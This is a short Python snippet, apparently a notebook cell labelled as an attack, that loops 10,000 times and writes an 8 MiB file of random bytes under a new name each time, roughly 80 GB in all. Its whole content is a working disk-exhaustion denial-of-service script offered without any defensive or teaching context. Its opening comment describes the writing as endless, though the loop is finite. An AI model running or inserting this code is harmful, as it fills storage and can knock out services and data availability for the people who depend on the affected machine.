# Writes without end, under several names.
# %% attack
import os
for number in range(10_000):
    with open(f"fill-{number}", "wb") as file:
        file.write(os.urandom(1 << 20) * 8)
